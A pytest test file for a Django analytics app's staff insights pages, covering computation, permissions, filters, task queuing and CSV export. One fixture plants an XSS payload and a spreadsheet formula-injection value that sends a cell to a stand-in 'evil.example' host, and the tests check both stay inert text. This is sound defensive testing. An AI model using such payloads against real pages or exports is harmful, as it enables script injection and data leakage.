from __future__ import annotations

import pyarrow as pa
import pytest

from prosumo.analytics.sections.formats import Reader
from prosumo.core.errors import InvalidInput, PermissionDenied
from prosumo.demo.loader import load_demo
from prosumo.insights.filters import subset
from prosumo.insights.models import InsightRun
from prosumo.insights.services import insights_request
from prosumo.outreach import selectors
from prosumo.outreach.models import Experiment


@pytest.fixture
def demo(db):
    load_demo(members=120, seed=5)


def test_staff_compute_and_read_every_question(demo, admin, login, django_capture_on_commit_callbacks):
    client = login(admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/staff/insights/", {})
    assert response.status_code == 302
    run = InsightRun.objects.get()
    assert run.status == InsightRun.Status.DONE, run.error
    assert run.extent["members"] == 120 + 1  # the demo plus the admin fixture
    keys = [s["key"] for s in run.result["sections"]]
    assert {"involvement", "channels", "influence"} <= set(keys)
    # the demo's imported orders and channel spend give the money figures (docs/commerce.md)
    sections = {s["key"]: s for s in run.result["sections"]}
    assert not any("No costs table" in note for note in sections["channels"]["notes"])
    costs = [r["cost_per_activated"] for r in sections["channels"]["tables"]["channels"] if r["activated"]]
    assert costs
    assert all(cost is not None and cost > 0 for cost in costs)
    assert sections["effectiveness"]["headline"]["co_created_revenue"] > 0
    assert "spend_uplift" in sections["effectiveness"]["headline"]
    page = client.get("/staff/insights/").content.decode()
    assert "Compute again" in page
    for key in keys:
        assert client.get(f"/staff/insights/{run.pk}/{key}/").status_code == 200
    # the demo's finished message experiment: its planted difference (co-produced messages convert
    # better in personal media, not in mass media) found by the Insights section and the results page alike
    messages = sections["messages"]["headline"]
    assert (messages["experiments"], messages["arms"]) == (1, 4)
    assert (messages["personal_verdict"], messages["mass_verdict"]) == ("co-produced better", "no difference")
    assert messages["interaction_verdict"] == "co-produced better"
    experiment = Experiment.objects.get()
    results = client.get(f"/staff/outreach/experiments/{experiment.pk}/results/").content.decode()
    assert "In personal media, co-produced messages convert better" in results
    assert "In mass media, the data show no difference" in results
    assert "Co-writing helps more in personal media than in mass media" in results
    arms = {r["arm"]: r for r in sections["messages"]["tables"]["message_arms"]}
    page = selectors.experiment_results(experiment.pk)
    assert {a.arm.pk: a.figures["converted"] for a in page.arms} == {k: r["converted"] for k, r in arms.items()}
    section = run.result["sections"][0]
    table = next(iter(section["tables"]))
    csv = client.get(f"/staff/insights/{run.pk}/{section['key']}/{table}.csv")
    assert csv.status_code == 200
    assert csv["Content-Type"].startswith("text/csv")
    assert len(csv.content.decode().splitlines()) == len(section["tables"][table]) + 1


def test_members_cannot_see_insights(member, login):
    assert login(member).get("/staff/insights/").status_code == 404
    with pytest.raises(PermissionDenied):
        insights_request(actor=member)


def test_bad_filters_are_refused(admin):
    with pytest.raises(InvalidInput) as err:
        insights_request(actor=admin, filters={"segment": "Nope", "since": "yesterday", "campaign": "x"})
    assert set(err.value.fields) == {"segment", "since", "campaign"}
    assert not InsightRun.objects.exists()


def test_subset_by_segment_and_period():
    ts = pa.timestamp("us", tz="UTC")
    import datetime as dt

    d = lambda day: dt.datetime(2026, 1, day, tzinfo=dt.UTC)  # noqa: E731
    tables = {
        "members": pa.table(
            {"member_id": [1, 2, 3], "segment": ["Gold", "Silver", "Gold"], "channel": ["email", "email", "social"]}
        ),
        "ideas": pa.table(
            {"idea_id": [10, 11], "author_id": [1, 2], "campaign_id": [5, 5], "created_at": pa.array([d(2), d(9)], ts)}
        ),
        "events": pa.table(
            {
                "actor_id": [1, 2, 3, None],
                "campaign_id": [5, 5, None, 5],
                "occurred_at": pa.array([d(2), d(3), d(9), d(4)], ts),
            }
        ),
        "idea_stages": pa.table({"idea_id": [10, 11]}),
    }
    gold = subset(tables, {"segment": "Gold"})
    assert gold["members"]["member_id"].to_pylist() == [1, 3]
    assert gold["ideas"]["idea_id"].to_pylist() == [10]
    assert gold["events"]["actor_id"].to_pylist() == [1, 3, None]
    assert gold["idea_stages"]["idea_id"].to_pylist() == [10]
    early = subset(tables, {"until": "2026-01-05T00:00:00+00:00"})
    assert early["events"]["actor_id"].to_pylist() == [1, 2, None]
    assert early["ideas"]["idea_id"].to_pylist() == [10]


def test_a_request_for_insights_only_queues_the_run_on_the_bulk_queue(
    admin, login, settings, django_capture_on_commit_callbacks
):
    # given: the database queue, as in production (no task runs in the web process)
    from django_tasks_db.models import DBTaskResult

    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend", "QUEUES": settings.TASK_QUEUES}}
    # when
    with django_capture_on_commit_callbacks(execute=True):
        response = login(admin).post("/staff/insights/", {})
    # then: the page answers at once; the run waits for a worker on the "bulk" queue
    assert response.status_code == 302
    run = InsightRun.objects.get()
    assert run.status == InsightRun.Status.PENDING
    queued = DBTaskResult.objects.get()
    assert (queued.queue_name, queued.task_path, queued.args_kwargs["args"]) == (
        "bulk",
        "prosumo.insights.tasks.compute_insights",
        [run.pk],
    )


HOSTILE_SEGMENT = "</script><img src=x onerror=alert(1)>"
FORMULA_SEGMENT = '=HYPERLINK("https://evil.example/?"&A2,"Gold")'


@pytest.fixture
def hostile_segment(demo, admin, django_capture_on_commit_callbacks):
    """A customer file names two tiers, one with HTML in it and one a formula; ten demo members take each."""
    from prosumo.community.imports import customer_import_create
    from prosumo.community.models import Member

    emails = list(Member.objects.filter(role="member").order_by("pk").values_list("email", flat=True)[:20])
    quoted = [HOSTILE_SEGMENT, FORMULA_SEGMENT.replace('"', '""')]
    rows = "".join(f'C-{i},{email},"{quoted[i % 2]}",100,ES\n' for i, email in enumerate(emails))
    with django_capture_on_commit_callbacks(execute=True):
        job = customer_import_create(
            actor=admin, file_name="tiers.csv", data=("customer_id,email,tier,spend,country\n" + rows).encode()
        )
    job.refresh_from_db()
    assert job.state == "done", job.message
    assert Member.objects.filter(segment__name=HOSTILE_SEGMENT).count() == 10
    assert Member.objects.filter(segment__name=FORMULA_SEGMENT).count() == 10
    with django_capture_on_commit_callbacks(execute=True):
        insights_request(actor=admin)
    run = InsightRun.objects.get()
    assert run.status == InsightRun.Status.DONE, run.error
    return run


def test_hostile_segment_names_stay_text_on_the_page_and_in_the_csv(hostile_segment, admin, login):
    import csv
    import io
    import json
    import re

    client = login(admin)
    # when: staff open the involvement question, whose charts and tables name the segments
    page = client.get(f"/staff/insights/{hostile_segment.pk}/involvement/").content.decode()
    # then: the name never appears as markup; each chart's data is one JSON script that holds it intact
    assert HOSTILE_SEGMENT not in page
    assert "<img" not in page
    specs = re.findall(r'<script id="chart\d+-spec" type="application/json">(.*?)</script>', page, re.S)
    assert len(specs) == len(hostile_segment.section("involvement")["charts"]) > 0
    charts = hostile_segment.section("involvement")["charts"]
    assert [json.loads(s) for s in specs] == [Reader().spec(chart, "involvement") for chart in charts]
    assert HOSTILE_SEGMENT in json.dumps([json.loads(s) for s in specs], ensure_ascii=False)

    # when: they download the table that names the segments
    tables = hostile_segment.section("involvement")["tables"]
    name, rows = next((n, r) for n, r in tables.items() if any(FORMULA_SEGMENT in row.values() for row in r))
    response = client.get(f"/staff/insights/{hostile_segment.pk}/involvement/{name}.csv")
    # then: the formula is text behind a quote, quoted; numbers stay numbers; every row is there
    assert response.status_code == 200
    text = response.content.decode()
    assert '"\'=HYPERLINK(""https://evil.example/?""&A2,""Gold"")"' in text
    assert "\n=" not in text
    assert ',"=' not in text
    read = list(csv.reader(io.StringIO(text)))
    # the header names each column in words (the funnel's, the first table to carry the segment)
    assert name == "funnel"
    assert list(rows[0]) == [
        "group",
        "step",
        "step_order",
        "size",
        "did",
        "reached",
        "share",
        "conversion",
        "definition",
    ]
    assert read[0] == [
        "Group",
        "Step",
        "Step number",
        "Members in the group",
        "Took the step",
        "Reached the step",
        "Share",
        "From the step before",
        "Definition",
    ]

    def read_back(value):
        text = "" if value is None else str(value)
        return "'" + text if isinstance(value, str) and text.startswith(("=", "+", "-", "@", "\t", "\r")) else text

    assert read[1:] == [[read_back(v) for v in row.values()] for row in rows]
    formula_row = next(row for row in rows if FORMULA_SEGMENT in row.values())
    raw = ",".join(
        '"' + read_back(v).replace('"', '""') + '"' if isinstance(v, str) or v is None else repr(v)
        for v in formula_row.values()
    )
    assert raw + "\r\n" in text  # text quoted, numbers bare


def test_a_section_read_back_has_its_figures_and_columns_in_the_written_order():
    from prosumo.insights.models import in_written_order

    # given: a section as jsonb gives it back, keys in an order of its own
    stored = {
        "key": "involvement",
        "headline": {"members": 10, "gini": 0.4, "active_share": 0.3},
        "tables": {"funnel": [{"did": 3, "size": 10, "step": "voted", "group": "all"}]},
        "order": {
            "headline": ["gini", "active_share", "members"],
            "tables": {"funnel": ["group", "step", "size", "did"]},
        },
    }
    # when
    section = in_written_order(stored)
    # then
    assert list(section["headline"]) == ["gini", "active_share", "members"]
    assert list(section["tables"]["funnel"][0]) == ["group", "step", "size", "did"]
    assert section["tables"]["funnel"][0] == stored["tables"]["funnel"][0]
